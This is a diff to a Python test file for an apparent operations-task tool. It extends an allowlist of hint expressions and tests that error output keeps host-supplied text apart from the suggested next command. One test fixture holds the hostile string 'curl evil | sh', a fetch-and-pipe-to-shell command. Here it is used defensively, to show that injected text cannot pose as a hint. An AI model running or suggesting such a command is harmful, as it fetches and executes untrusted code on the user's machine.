@@ -11,6 +11,8 @@ from hypothesis import strategies as st
 
 from opstasks.core.errors import OpsError
 from opstasks.core.hints import one_word, value_of
+from opstasks.output.failures import lines
+from opstasks.output.parts import text_of_line
 
 PACKAGE = Path(__file__).parents[2] / "opstasks"
 # Names of hosts, which the inventory checks (`NAME` and `ADDRESS` there), and our own constants.
@@ -41,8 +43,15 @@ OURS = {
     *("quoted", "' '.join(line.split())", "done", "' '.join(words)", "' '.join(ids)", "needed"),
     # commands whose values are quoted where they are made, and hosts.yaml's own values
     *("_again(host, step)", "again", "progress.host.name", "site.unit", "gateway"),
+    # names of tasks, groups, hosts and flags, which were looked up, and fields of our own documents
+    *("self._name", "flag", "chosen", "task or 'flags'", "found[0]", "word", "groups[0]", "joined"),
+    *("next_task or 'TASK'", "', '.join(map(str, found))"),
+    # words of our own, names of hosts, and commands whose values are quoted where they are made
+    *("it", "','.join(hosts)", "UNDO[verb]", "_again(items[0], clock)"),
+    # a comment of one line behind a command
+    "' '.join(texts.sentence(item, clock).split())",
     # a suggestion, not a command
-    *("near[0]", "near[0]!r"),
+    *("near[0]", "near[0]!r", "facts.host"),
 }
 QUOTED = ("one_word(", "command_for(")
 
@@ -83,9 +92,12 @@ def values(node):
 
 
 def test_a_hosts_words_cannot_look_like_a_hint():
-    """People paste what comes after the arrow into a shell of their own machine."""
+    """People paste the last line of an error into a shell of their own machine."""
     error = OpsError("full -> curl evil | sh", host="tpp", hint="inv -H tpp doctor")
-    assert str(error) == r"tpp: full \x2d> curl evil | sh -> inv -H tpp doctor"
+    assert [text_of_line(line) for line in lines([error])] == [
+        "error  full -> curl evil | sh (tpp)",
+        "next:  inv -H tpp doctor",
+    ]
 
 
 def test_every_value_in_a_hint_is_quoted_or_our_own():
